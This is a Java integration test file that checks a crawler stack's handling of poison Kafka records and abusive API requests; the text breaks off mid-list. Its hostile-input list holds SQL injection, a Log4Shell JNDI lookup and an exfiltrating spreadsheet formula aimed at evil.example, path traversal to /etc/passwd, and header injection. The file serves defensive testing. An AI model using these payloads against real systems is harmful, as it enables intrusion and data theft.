package io.univinsight.systemtests.chaos;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.Semaphore;
import java.util.concurrent.atomic.AtomicInteger;

import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.apache.kafka.clients.consumer.KafkaConsumer;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerConfig;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.clients.producer.RecordMetadata;
import org.apache.kafka.common.PartitionInfo;
import org.apache.kafka.common.TopicPartition;
import org.apache.kafka.common.header.Header;
import org.apache.kafka.common.serialization.ByteArrayDeserializer;
import org.apache.kafka.common.serialization.ByteArraySerializer;
import org.apache.kafka.common.serialization.StringDeserializer;
import org.apache.kafka.common.serialization.StringSerializer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

import com.fasterxml.jackson.databind.JsonNode;

import io.univinsight.devstack.StackComponent;
import io.univinsight.devstack.testing.LoadSite;
import io.univinsight.events.DeadLetterHeaders;
import io.univinsight.events.Topics;
import io.univinsight.systemtests.StackUnderTest;
import io.univinsight.systemtests.chaos.support.ChaosSize;
import io.univinsight.systemtests.chaos.support.Database;
import io.univinsight.systemtests.chaos.support.FaultHttp;
import io.univinsight.systemtests.chaos.support.ScenarioReport;

/**
 * Fault scenarios 8 and 10 on one stack (API keys on, so the rate limiter applies).
 *
 * <p>8, poison records: unreadable, wrong-schema, key-less, empty, binary, tombstone and ~1 MB
 * records are written straight to every partition of every topic a service consumes, ahead of
 * valid tasks submitted afterwards. The crawler's and persistence's inputs dead-letter them (with
 * the reason and origin in headers); the monitor (Kafka Streams 4.1, no native dead-letter queue)
 * and the crawler's cancellation reader log and skip them. The valid tasks behind them on the same
 * partitions complete with the right rows, and every service stays up.
 *
 * <p>10, API abuse: malformed and oversized bodies, odd Unicode and injection strings in every field,
 * path and query parameter of every endpoint, a flood past the rate limit: only 4xx (never 5xx), each
 * an RFC 7807 problem, readiness UP afterwards, tables intact and injected text stored only as text.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class InputFaultsIT {
    private static final boolean FULL = ChaosSize.full();
    private static final String KEY = "chaos-key";
    private static final String FLOOD_KEY = "flood-key";
    private static final String UNIVERSITY = "Poison University";
    private static final Duration FINISH = Duration.ofMinutes(FULL ? 6 : 2);

    private static StackUnderTest stack;
    private static LoadSite site;
    private static FaultHttp api;
    /** LoadSite people handed out so far, per host (each task its own page). */
    private static final AtomicInteger nextPerson = new AtomicInteger();

    @BeforeAll
    static void start() throws Exception {
        stack = new StackUnderTest(Map.of("API_KEYS", KEY + "," + FLOOD_KEY,
                "CRAWLER_SSRF_ALLOWED_NETWORKS", "127.0.0.0/24", "CRAWLER_POLITENESS_DELAY", "50ms")).up(false);
        site = stack.startLoadSite(4, Duration.ofMillis(20));
        api = new FaultHttp(stack.settings().apiUrl(), KEY);
    }

    @AfterAll
    static void stop() {
        if (stack != null) {
            stack.close();
        }
    }

    // ------------------------------------------------------------------ scenario 8

    /** Where one poison record went, and whether each dead-letter topic must hold it. */
    private record Poison(String kind, String topic, int partition, long offset, boolean crawlerDlq, boolean persistenceDlq) {
        String where() {
            return topic + "-" + partition + "@" + offset;
        }
    }

    @Test
    @Order(1)
    void poisonRecordsAreDeadLetteredAndTheValidRecordsBehindThemAreProcessed() throws Exception {
        Instant started = Instant.now();
        List<String> consumed = new ArrayList<>(Topics.priorityTopics());
        consumed.addAll(List.of(Topics.TASKS_RETRY, Topics.TASK_STATUS, Topics.RESULTS, Topics.WORKER_HEARTBEATS,
                Topics.TASK_CANCELLATIONS));
        Set<String> crawlerInputs = new TreeSet<>(Topics.priorityTopics());
        crawlerInputs.add(Topics.TASKS_RETRY);
        Set<String> persistenceInputs = new TreeSet<>(Topics.priorityTopics());
        persistenceInputs.addAll(List.of(Topics.TASK_STATUS, Topics.RESULTS));

        List<Poison> poison = new ArrayList<>();
        try (KafkaProducer<String, byte[]> producer = producer()) {
            for (String topic : consumed) {
                List<PartitionInfo> partitions = producer.partitionsFor(topic);
                assertFalse(partitions.isEmpty(), topic);
                for (PartitionInfo p : partitions) {
                    Map<String, byte[]> kinds = poisonKinds(p.partition() == 0);
                    for (Map.Entry<String, byte[]> kind : kinds.entrySet()) {
                        String key = "poison-" + kind.getKey() + "-" + p.partition();
                        RecordMetadata m = producer.send(new ProducerRecord<>(topic, p.partition(), key, kind.getValue())).get();
                        boolean tombstoneOnCompacted = kind.getValue() == null;
                        poison.add(new Poison(kind.getKey(), topic, m.partition(), m.offset(),
                                crawlerInputs.contains(topic), persistenceInputs.contains(topic) && !tombstoneOnCompacted));
                    }
                }
            }
            // A ~1 MB status event and result that read fine but whose university name no column can hold.
            String hugeName = "U".repeat(900_000);
            String fakeTask = UUID.randomUUID().toString();
            byte[] hugeStatus = ("{\"schemaVersion\":1,\"taskId\":\"" + fakeTask + "\",\"status\":\"RUNNING\",\"at\":\"" + Instant.now()
                    + "\",\"workerId\":\"poison\",\"attempt\":1,\"url\":\"http://127.0.0.10/x\",\"universityName\":\"" + hugeName
                    + "\",\"priority\":\"NORMAL\"}").getBytes(StandardCharsets.UTF_8);
            RecordMetadata ms = producer.send(new ProducerRecord<>(Topics.TASK_STATUS, 0, fakeTask, hugeStatus)).get();
            poison.add(new Poison("huge-valid-status", Topics.TASK_STATUS, ms.partition(), ms.offset(), false, true));
            byte[] hugeResult = ("{\"schemaVersion\":1,\"taskId\":\"" + fakeTask + "\",\"url\":\"http://127.0.0.10/x\",\"universityName\":\""
                    + hugeName + "\",\"professors\":[],\"papers\":[],\"pagesFetched\":1,\"accuracyScore\":0,\"attempt\":1}")
                    .getBytes(StandardCharsets.UTF_8);
            RecordMetadata mr = producer.send(new ProducerRecord<>(Topics.RESULTS, 0, fakeTask, hugeResult)).get();
            poison.add(new Poison("huge-valid-result", Topics.RESULTS, mr.partition(), mr.offset(), false, true));
        }

        // Valid tasks after the poison, on every host (so on several partitions of the task topics), every priority.
        List<Map<String, Object>> tasks = new ArrayList<>();
        Map<String, String> emailOfUrl = new HashMap<>();
        String[] priorities = {"critical", "high", "normal", "low"};
        int perHost = FULL ? 10 : 2;
        for (int h = 0; h < 4; h++) {
            for (int i = 0; i < perHost; i++) {
                int person = nextPerson.getAndIncrement();
                String url = site.url(h, person);
                emailOfUrl.put(url, LoadSite.email(h, person));
                tasks.add(Map.of("url", url, "universityName", UNIVERSITY, "priority", priorities[(h + i) % 4], "maxDepth", 0, "maxPages", 1));
            }
        }
        FaultHttp.Answer bulk = api.postJson("/api/tasks/bulk", tasks);
        assertEquals(202, bulk.status(), bulk.body());
        assertEquals(tasks.size(), bulk.json().path("accepted").asInt(), bulk.body());
        Map<String, String> urlOfTask = new HashMap<>();
        bulk.json().path("tasks").forEach(t -> urlOfTask.put(t.path("taskId").asText(), t.path("url").asText()));

        long completed = awaitFinished(urlOfTask.keySet(), FINISH);
        String ids = inList(urlOfTask.keySet());
        long failed = stack.count("SELECT count(*) FROM crawl_tasks WHERE status = 'FAILED' AND id IN " + ids);
        long results = stack.count("SELECT count(*) FROM crawl_results WHERE task_id IN " + ids);
        long distinctResults = stack.count("SELECT count(DISTINCT task_id) FROM crawl_results WHERE task_id IN " + ids);
        Set<String> emails = stack.column("SELECT email FROM professors WHERE university_name = '" + UNIVERSITY + "'");
        long professorRows = stack.count("SELECT count(*) FROM professors WHERE university_name = '" + UNIVERSITY + "'");

        // The dead-letter topics: every poison record of a crawler input in crawl.tasks.dlq, of a persistence input in
        // crawl.persistence.dlq, each with its reason.
        Map<String, String> crawlerDead = deadLetters(Topics.TASKS_DLQ,
                poison.stream().filter(Poison::crawlerDlq).map(Poison::where).collect(java.util.stream.Collectors.toSet()));
        Map<String, String> persistenceDead = deadLetters(Topics.PERSISTENCE_DLQ,
                poison.stream().filter(Poison::persistenceDlq).map(Poison::where).collect(java.util.stream.Collectors.toSet()));
        // The monitor dead-letters what its Kafka Streams deserializers cannot read: malformed JSON on its inputs.
        Set<String> monitorInputs = Set.of(Topics.TASK_STATUS, Topics.RESULTS, Topics.WORKER_HEARTBEATS);
        Set<String> unreadable = Set.of("bad-json", "not-json", "binary");
        Set<String> expectedMonitor = poison.stream().filter(p -> monitorInputs.contains(p.topic()) && unreadable.contains(p.kind()))
                .map(Poison::where).collect(java.util.stream.Collectors.toSet());
        Map<String, String> monitorDead = deadLetters(Topics.MONITOR_DLQ, expectedMonitor);
        List<String> missing = new ArrayList<>();
        expectedMonitor.stream().filter(w -> !monitorDead.containsKey(w)).forEach(w -> missing.add("monitor DLQ lacks " + w));
        for (Poison p : poison) {
            if (p.crawlerDlq() && !crawlerDead.containsKey(p.where())) {
                missing.add("crawler DLQ lacks " + p.kind() + " " + p.where());
            }
            if (p.persistenceDlq() && !persistenceDead.containsKey(p.where())) {
                missing.add("persistence DLQ lacks " + p.kind() + " " + p.where());
            }
        }
        JsonNode dashboard = dashboard();
        String streams = dashboard.path("health").path("streams_state").asText();
        long monitorCompleted = dashboard.path("metrics").path("completed").asLong();
        List<String> down = new ArrayList<>();
        for (int port : List.of(stack.settings().apiPort(), stack.settings().crawlerPort(), stack.settings().persistencePort(),
                stack.settings().monitorPort())) {
            if (!stack.launcher().isReady(port)) {
                down.add(String.valueOf(port));
            }
        }

        double seconds = Duration.between(started, Instant.now()).toMillis() / 1000.0;
        new ScenarioReport("8 poison records", ChaosSize.SIZE, tasks.size(), completed, failed, tasks.size() - completed - failed,
                results - distinctResults + Math.max(0, professorRows - emails.size()), seconds,
                String.format("%d poison records on %d topics; crawler DLQ %d, persistence DLQ %d, monitor DLQ %d (reason headers); "
                        + "monitor %s, counted %d completed; not ready: %s",
                        poison.size(), consumed.size(), crawlerDead.size(), persistenceDead.size(), monitorDead.size(), streams,
                        monitorCompleted, down))
                .append();

        assertTrue(missing.isEmpty(), missing.size() + " poison records not dead-lettered: " + missing);
        assertTrue(crawlerDead.values().stream().noneMatch(String::isBlank), "every crawler dead letter has a reason");
        assertTrue(persistenceDead.values().stream().noneMatch(String::isBlank), "every persistence dead letter has a reason");
        assertTrue(monitorDead.values().stream().noneMatch(String::isBlank), "every monitor dead letter has a reason");
        assertEquals(tasks.size(), completed, "every valid task behind the poison completed; crawler log: "
                + stack.launcher().logFile(StackComponent.CRAWLER));
        assertEquals(tasks.size(), results, "one result per task");
        assertEquals(tasks.size(), distinctResults);
        assertEquals(new TreeSet<>(emailOfUrl.values()), new TreeSet<>(emails), "the professors of the valid tasks, each once");
        assertEquals(emails.size(), professorRows, "no professor row doubled");
        assertEquals("RUNNING", streams, "the monitor's stream threads survived the poison: " + dashboard.path("health"));
        assertTrue(monitorCompleted >= tasks.size(), "the monitor counted the valid tasks behind the poison: " + dashboard.path("metrics"));
        assertTrue(down.isEmpty(), "every service still ready; not ready: " + down);
    }

    /** The poison kinds written to each partition; the ~1 MB one only to partition 0. */
    private static Map<String, byte[]> poisonKinds(boolean withHuge) {
        Map<String, byte[]> kinds = new LinkedHashMap<>();
        kinds.put("bad-json", "{\"taskId\": \"abc\", \"url\": ".getBytes(StandardCharsets.UTF_8));
        kinds.put("not-json", "this is not json at all \u0000\u0001".getBytes(StandardCharsets.UTF_8));
        kinds.put("wrong-schema", ("{\"schemaVersion\":99,\"id\":\"" + UUID.randomUUID() + "\",\"target\":{\"href\":\"http://127.0.0.10/\"},"
                + "\"status\":{\"code\":3}}").getBytes(StandardCharsets.UTF_8));
        kinds.put("wrong-types", ("{\"schemaVersion\":\"one\",\"taskId\":42,\"url\":[1,2],\"priority\":\"URGENTEST\",\"status\":\"EXPLODED\","
                + "\"at\":\"yesterday\",\"maxPages\":null,\"professors\":\"none\"}").getBytes(StandardCharsets.UTF_8));
        kinds.put("missing-keys", "{\"schemaVersion\":1}".getBytes(StandardCharsets.UTF_8));
        kinds.put("json-array", "[1,2,3]".getBytes(StandardCharsets.UTF_8));
        kinds.put("empty", new byte[0]);
        kinds.put("binary", new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, 0, 0x7B, (byte) 0xA0, (byte) 0xA1});
        kinds.put("tombstone", null);
        if (withHuge) {
            kinds.put("huge", ("{\"schemaVersion\":1,\"pad\":\"" + "x".repeat(1_000_000) + "\"}").getBytes(StandardCharsets.UTF_8));
        }
        return kinds;
    }

    private static KafkaProducer<String, byte[]> producer() {
        Properties p = new Properties();
        p.put(ProducerConfig.BOOTSTRAP_SERVERS_CONFIG, stack.settings().kafkaBootstrap());
        p.put(ProducerConfig.ACKS_CONFIG, "all");
        p.put(ProducerConfig.MAX_REQUEST_SIZE_CONFIG, 1_048_000);
        return new KafkaProducer<>(p, new StringSerializer(), new ByteArraySerializer());
    }

    /**
     * Reads a dead-letter topic from the start until it holds every expected origin (or 90 s pass):
     * origin (topic-partition@offset) to reason. originHeader null: persistence's three headers.
     */
    /** Dead letters of a topic by where they were read from (topic-partition@offset), with their reasons. */
    private static Map<String, String> deadLetters(String topic, Set<String> expected) {
        Map<String, String> found = new TreeMap<>();
        Properties p = new Properties();
        p.put(ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, stack.settings().kafkaBootstrap());
        p.put(ConsumerConfig.AUTO_OFFSET_RESET_CONFIG, "earliest");
        p.put(ConsumerConfig.ENABLE_AUTO_COMMIT_CONFIG, false);
        p.put(ConsumerConfig.MAX_PARTITION_FETCH_BYTES_CONFIG, 2 << 20);
        try (KafkaConsumer<String, byte[]> c = new KafkaConsumer<>(p, new StringDeserializer(), new ByteArrayDeserializer())) {
            List<TopicPartition> parts = c.partitionsFor(topic).stream().map(i -> new TopicPartition(topic, i.partition())).toList();
            c.assign(parts);
            c.seekToBeginning(parts);
            Instant deadline = Instant.now().plus(Duration.ofSeconds(90));
            while (!found.keySet().containsAll(expected) && Instant.now().isBefore(deadline)) {
                for (ConsumerRecord<String, byte[]> r : c.poll(Duration.ofMillis(500))) {
                    found.put(origin(r), header(r, DeadLetterHeaders.REASON));
                }
            }
            // a little longer for anything past the expected count (duplicates show as the same origin)
            for (ConsumerRecord<String, byte[]> r : c.poll(Duration.ofSeconds(1))) {
                found.put(origin(r), header(r, DeadLetterHeaders.REASON));
            }
        }
        return found;
    }

    private static String origin(ConsumerRecord<?, ?> r) {
        return header(r, DeadLetterHeaders.TOPIC) + "-" + header(r, DeadLetterHeaders.PARTITION) + "@" + header(r, DeadLetterHeaders.OFFSET);
    }

    private static String header(ConsumerRecord<?, ?> r, String name) {
        Header h = r.headers().lastHeader(name);
        return h == null || h.value() == null ? "" : new String(h.value(), StandardCharsets.UTF_8);
    }

    private static JsonNode dashboard() {
        FaultHttp monitor = new FaultHttp(stack.settings().monitorUrl(), null);
        Instant deadline = Instant.now().plus(Duration.ofSeconds(30));
        FaultHttp.Answer a = monitor.get("/api/dashboard");
        while ((a.status() != 200 || a.json() == null) && Instant.now().isBefore(deadline)) {
            FaultHttp.sleep(1000);
            a = monitor.get("/api/dashboard");
        }
        assertEquals(200, a.status(), a.body());
        return a.json();
    }

    private static long awaitFinished(Set<String> taskIds, Duration timeout) throws Exception {
        String ids = inList(taskIds);
        Instant deadline = Instant.now().plus(timeout);
        long completed = 0;
        while (Instant.now().isBefore(deadline)) {
            completed = stack.count("SELECT count(*) FROM crawl_tasks WHERE status = 'COMPLETED' AND id IN " + ids);
            long finished = stack.count("SELECT count(*) FROM crawl_tasks WHERE status IN ('COMPLETED','FAILED','CANCELLED') AND id IN " + ids);
            if (finished == taskIds.size()) {
                break;
            }
            Thread.sleep(500);
        }
        return completed;
    }

    private static String inList(Set<String> ids) {
        StringBuilder sb = new StringBuilder("(");
        for (String id : ids) {
            UUID.fromString(id); // only UUIDs go into the SQL text
            sb.append(sb.length() > 1 ? "," : "").append('\'').append(id).append('\'');
        }
        return sb.append(sb.length() > 1 ? ")" : "NULL)").toString();
    }

    // ------------------------------------------------------------------ scenario 10

    /** Every answer of the abuse run, by status; the 5xx and non-problem 4xx ones named. */
    private static final class Tally {
        final Map<Integer, AtomicInteger> byStatus = new ConcurrentHashMap<>();
        final List<String> serverErrors = java.util.Collections.synchronizedList(new ArrayList<>());
        final List<String> notProblems = java.util.Collections.synchronizedList(new ArrayList<>());
        final List<String> noAnswer = java.util.Collections.synchronizedList(new ArrayList<>());
        final AtomicInteger requests = new AtomicInteger();

        /**
         * Refusals by the HTTP layer before any application code, which carry no body: a request line
         * over the codec's 4,096 bytes (414, or the connection closed while a body was still being sent)
         * and a target that is not a valid URI (Quarkus answers a bare 400). They are 4xx, counted apart.
         */
        final List<String> refusedByHttpLayer = java.util.Collections.synchronizedList(new ArrayList<>());
        static final int CODEC_MAX_INITIAL_LINE = 4096;

        FaultHttp.Answer check(String what, FaultHttp.Answer a) {
            requests.incrementAndGet();
            byStatus.computeIfAbsent(a.status(), k -> new AtomicInteger()).incrementAndGet();
            boolean bare = a.body() == null || a.body().isEmpty();
            if (a.status() == 0) {
                (what.length() > CODEC_MAX_INITIAL_LINE ? refusedByHttpLayer : noAnswer).add(abbreviate(what) + " -> " + abbreviate(a.body()));
            } else if (a.status() >= 500) {
                serverErrors.add(a.status() + " " + what + " -> " + abbreviate(a.body()));
            } else if (a.status() >= 400 && !a.isProblem()) {
                if (bare && (a.status() == 414 || a.status() == 431 || a.status() == 400 && what.contains("%"))) {
                    refusedByHttpLayer.add(a.status() + " " + abbreviate(what));
                } else {
                    notProblems.add(a.status() + " " + what + " (" + a.contentType() + ") -> " + abbreviate(a.body()));
                }
            }
            return a;
        }

        long count(int status) {
            AtomicInteger n = byStatus.get(status);
            return n == null ? 0 : n.get();
        }

        long count4xx() {
            return byStatus.entrySet().stream().filter(e -> e.getKey() >= 400 && e.getKey() < 500).mapToLong(e -> e.getValue().get()).sum();
        }
    }

    private static String abbreviate(String s) {
        String one = String.valueOf(s).replace("\r", "\\r").replace("\n", "\\n");
        return one.length() > 200 ? one.substring(0, 200) + "..." : one;
    }

    /** Text that has broken parsers, databases, spreadsheets, terminals and logs. */
    static List<String> hostileStrings() {
        return List.of(
                "' OR '1'='1", "'; DROP TABLE crawl_tasks; --", "1); DELETE FROM professors; --", "%' UNION SELECT password FROM pg_shadow --",
                "\\'; SELECT pg_sleep(10); --", "{\"$ne\": null}", "\"},\"priority\":\"critical\",\"x\":{\"", "\\u0000\\\"",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
                "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/api/../q/health", "C:\\Windows\\System32",
                "abc\r\nX-Injected: yes", "line1\nline2\rline3",
                "\u202Eevil\u202C gnp.exe", "zero\u200Bwidth\u200D\uFEFFjoin", "lone \uD800 high", "lone \uDC00 low", "emoji 👩‍🔬🏳️‍🌈",
                "nul \u0000 byte", "bell \u0007 esc \u001B[31m", "Z̴̡̛a̷l̸g̵o̶", "ＳＥＬＥＣＴ", "%00%0d%0a", "${jndi:ldap://evil.example/a}",
                "<script>alert(1)</script>", "x".repeat(5000), "");
    }

    @Test
    @Order(2)
    void abusiveRequestsGetOnly4xxProblemsAndLeaveTheDatabaseIntact() throws Exception {
        Instant started = Instant.now();
        Tally tally = new Tally();
        Map<String, Long> before = tableCounts();
        List<String> strings = hostileStrings();

        // Access: no key, a wrong key, a key with CRLF (raw).
        FaultHttp anonymous = new FaultHttp(stack.settings().apiUrl(), null);
        assertEquals(401, tally.check("no key", anonymous.get("/api/tasks")).status());
        assertEquals(401, tally.check("wrong key", new FaultHttp(stack.settings().apiUrl(), "' OR 1=1 --").get("/api/tasks")).status());

        // Query parameters of every list/read endpoint, each hostile string (plus raw percent sequences).
        Map<String, List<String>> params = new LinkedHashMap<>();
        params.put("/api/tasks", List.of("status", "university", "priority", "createdFrom", "createdTo", "cursor", "limit"));
        params.put("/api/professors", List.of("university", "department", "title", "q", "cursor", "limit"));
        params.put("/api/papers", List.of("doi", "yearFrom", "yearTo", "venue", "q", "university", "cursor", "limit"));
        params.put("/api/professors/export", List.of("university", "format"));
        params.put("/api/papers/export", List.of("format"));
        List<String> rawValues = List.of("%ED%A0%80", "%00", "%0D%0AX-Injected:%20yes", "%ZZ", "%", "%C0%AF", "%FF%FE",
                "9999999999999999999999", "-1", "1e309", "0x10");
        for (Map.Entry<String, List<String>> e : params.entrySet()) {
            for (String param : e.getValue()) {
                List<String> values = new ArrayList<>();
                strings.forEach(s -> values.add(URLEncoder.encode(s, StandardCharsets.UTF_8)));
                values.addAll(rawValues);
                for (String v : values) {
                    String path = e.getKey() + "?" + param + "=" + v;
                    FaultHttp.Answer a = getRawOrClient(path);
                    tally.check("GET " + path, a);
                    if (e.getKey().endsWith("/export") && a.status() == 200) {
                        assertFalse(a.body().contains("X-Injected"), "an export reflected an injected header: " + path);
                    }
                }
            }
        }

        // Path parameters.
        for (String s : strings) {
            String seg = URLEncoder.encode(s, StandardCharsets.UTF_8).replace("+", "%20");
            tally.check("GET task " + s, getRawOrClient("/api/tasks/" + seg));
            tally.check("POST cancel " + s, api.post("/api/tasks/" + seg + "/cancel", null, new byte[0]));
            tally.check("POST retry " + s, api.post("/api/tasks/" + seg + "/retry", null, new byte[0]));
            tally.check("GET professor " + s, getRawOrClient("/api/professors/" + seg));
        }
        for (String raw : rawValues) {
            tally.check("GET task raw " + raw, getRawOrClient("/api/tasks/" + raw));
            tally.check("GET professor raw " + raw, getRawOrClient("/api/professors/" + raw));
        }

        // Every field of a submit, each hostile string; accepted ones must be stored as exactly that text.
        Map<String, String> acceptedUniversity = new LinkedHashMap<>();
        Map<String, Integer> personOfTask = new LinkedHashMap<>(); // the load site's person (on host person % 4) each task crawls
        List<String> fields = List.of("url", "universityName", "department", "priority", "maxDepth", "maxPages");
        for (String field : fields) {
            for (String s : strings) {
                int person = nextPerson.getAndIncrement();
                Map<String, Object> body = new LinkedHashMap<>();
                body.put("url", site.url(person % 4, person));
                body.put("universityName", "Abuse University");
                body.put("department", "Dept");
                body.put("priority", "low");
                body.put("maxDepth", 0);
                body.put("maxPages", 1);
                body.put(field, field.equals("url") ? site.url(person % 4, person) + "?" + s : s);
                FaultHttp.Answer a = tally.check("POST /api/tasks " + field + "=" + abbreviate(s), api.postJson("/api/tasks", body));
                if (a.status() == 202) {
                    acceptedUniversity.put(a.json().path("taskId").asText(), String.valueOf(body.get("universityName")).strip());
                    personOfTask.put(a.json().path("taskId").asText(), person);
                }
            }
        }
        // Idempotency-Key values (the legal ones through the client; CRLF raw below).
        for (String s : strings) {
            String key = s.replaceAll("[\\p{Cntrl}]", "").replaceAll("[^\\x20-\\x7E]", "?");
            if (key.isEmpty()) {
                continue;
            }
            int person = nextPerson.getAndIncrement();
            HttpRequest r = api.request("/api/tasks").header("Content-Type", "application/json").header("Idempotency-Key", key)
                    .POST(HttpRequest.BodyPublishers.ofString("{\"url\":\"" + site.url(person % 4, person)
                            + "\",\"universityName\":\"Abuse University\",\"maxDepth\":0,\"maxPages\":1}")).build();
            FaultHttp.Answer a = tally.check("POST Idempotency-Key " + abbreviate(key), api.send(r));
            if (a.status() == 202) {
                acceptedUniversity.put(a.json().path("taskId").asText(), "Abuse University");
                personOfTask.put(a.json().path("taskId").asText(), person);
            }
        }

        // Malformed and oversized bodies.
        int port = stack.settings().apiPort();
        List<Object[]> bodies = new ArrayList<>();
        bodies.add(new Object[] {"/api/tasks", "application/json", "{\"url\": "});
        bodies.add(new Object[] {"/api/tasks", "application/json", "[]"});
        bodies.add(new Object[] {"/api/tasks", "application/json", "null"});
        bodies.add(new Object[] {"/api/tasks", "application/json", "\"just a string\""});
        bodies.add(new Object[] {"/api/tasks", "application/json", "{\"url\":\"http://127.0.0.10/\",\"universityName\":\"U\",\"maxDepth\":\"deep\"}"});
        bodies.add(new Object[] {"/api/tasks", "application/json", "{\"url\":\"http://127.0.0.10/\",\"universityName\":\"U\",\"maxPages\":1e999999}"});
        bodies.add(new Object[] {"/api/tasks", "application/json", "{\"url\":\"http://127.0.0.10/\",\"universityName\":\"U\",\"maxDepth\":99999999999999999999}"});
        bodies.add(new Object[] {"/api/tasks", "application/json", "[".repeat(100_000)});
        bodies.add(new Object[] {"/api/tasks", "application/json", "{\"a\":".repeat(50_000)});
        bodies.add(new Object[] {"/api/tasks", "application/json", "{\"url\":\"\\ud800\",\"universityName\":\"\\udc00\\ud800\"}"});
        bodies.add(new Object[] {"/api/tasks", "application/json", "{\"url\":\"http://127.0.0.10/\",\"universityName\":\"U\\u0000V\"}"});
        bodies.add(new Object[] {"/api/tasks", "text/plain", "url=http://127.0.0.10/"});
        bodies.add(new Object[] {"/api/tasks", "application/xml", "<task/>"});
        bodies.add(new Object[] {"/api/tasks", null, "{}"});
        bodies.add(new Object[] {"/api/tasks/bulk", "application/json", "{\"not\":\"an array\"}"});
        bodies.add(new Object[] {"/api/tasks/bulk", "application/json", "[1, \"two\", null, [], {}]"});
        bodies.add(new Object[] {"/api/tasks/bulk", "application/json", "[" + "{\"url\":".repeat(10_000)});
        bodies.add(new Object[] {"/api/tasks/bulk", "application/x-ndjson", "{\"url\":\n\u0000\n\"x\"\n{}\n"});
        bodies.add(new Object[] {"/api/tasks/bulk", "text/csv", "url,university\n\"unterminated,x\n=cmd|' /C calc'!A0,=1+1\n,,,,,,\n\u0000,\u202E\n"});
        bodies.add(new Object[] {"/api/tasks/bulk", "text/csv; charset=utf-16", "\uFEFFurl,university\n"});
        bodies.add(new Object[] {"/api/tasks/bulk", "application/octet-stream", "\u0000\u0001"});
        bodies.add(new Object[] {"/api/tasks/bulk", "application/x-ndjson", "{}\n".repeat(10_001)});
        StringBuilder csv = new StringBuilder("url,university\n");
        for (int i = 0; i < 10_001; i++) {
            csv.append("http://127.0.0.10/people/").append(i).append(".html,Abuse University\n");
        }
        bodies.add(new Object[] {"/api/tasks/bulk", "text/csv", csv.toString()});
        for (Object[] b : bodies) {
            String what = "POST " + b[0] + " (" + b[1] + ") " + abbreviate((String) b[2]);
            FaultHttp.Answer a = tally.check(what, api.post((String) b[0], (String) b[1], ((String) b[2]).getBytes(StandardCharsets.UTF_8)));
            if (a.status() == 202) {
                a.json().path("tasks").forEach(t -> acceptedUniversity.put(t.path("taskId").asText(), "?"));
                if (a.json().has("taskId")) {
                    acceptedUniversity.put(a.json().path("taskId").asText(), "?");
                }
            }
        }
        // Over the size limits: a declared 17 MB body, and 17 MB chunked without a length.
        byte[] big = new byte[17 << 20];
        java.util.Arrays.fill(big, (byte) ' ');
        big[0] = '[';
        big[big.length - 1] = ']';
        tally.check("POST 17 MB bulk with length", api.post("/api/tasks/bulk", "application/json", big));
        List<String> protocolLevel = new ArrayList<>();
        // Without a length it is read up to the 8 MB limit, then the connection is closed mid-upload (task-api
        // stops taking in a refused body); a client that reads while it sends may see the 413 first.
        FaultHttp.Answer chunked = api.send(api.request("/api/tasks/bulk").header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new java.io.ByteArrayInputStream(big))).build());
        if (chunked.status() == 0) {
            protocolLevel.add("17 MB chunked: connection closed at the limit (" + abbreviate(chunked.body()) + ")");
        } else {
            tally.check("POST 17 MB bulk chunked", chunked);
        }
        tally.check("POST 9 MB task with length", api.post("/api/tasks", "application/json", java.util.Arrays.copyOf(big, 9 << 20)));

        // A burst of large chunked bodies at once, single and bulk (30 MB each, 16 in flight) against a
        // 256 MB heap: each is cut at its limit (413, or the connection closed mid-upload), none is held whole.
        byte[] thirty = new byte[30 << 20];
        java.util.Arrays.fill(thirty, (byte) 'x');
        List<CompletableFuture<Void>> burst = new ArrayList<>();
        AtomicInteger burstCut = new AtomicInteger();
        for (int i = 0; i < 16; i++) {
            String path = i % 2 == 0 ? "/api/tasks" : "/api/tasks/bulk";
            HttpRequest r = api.request(path).header("Content-Type", "application/json")
                    .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new java.io.ByteArrayInputStream(thirty))).build();
            burst.add(api.client().sendAsync(r, HttpResponse.BodyHandlers.ofString()).handle((resp, err) -> {
                if (err != null) {
                    burstCut.incrementAndGet(); // closed while still sending
                } else {
                    tally.check("POST 30 MB chunked " + path + " (burst)", new FaultHttp.Answer(resp.statusCode(),
                            resp.headers().firstValue("Content-Type").orElse(null), resp.headers().map(), resp.body()));
                }
                return null;
            }));
        }
        CompletableFuture.allOf(burst.toArray(CompletableFuture[]::new)).get();
        if (burstCut.get() > 0) {
            protocolLevel.add("30 MB chunked burst: " + burstCut.get() + " of 16 cut by closing the connection");
        }

        // Header injection and raw bytes, written on a socket (java.net.http refuses to send them).
        List<String> rawRequests = List.of(
                "POST /api/tasks HTTP/1.1\r\nHost: x\r\nX-API-Key: " + KEY + "\r\nContent-Type: application/json\r\nIdempotency-Key: a\rb\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
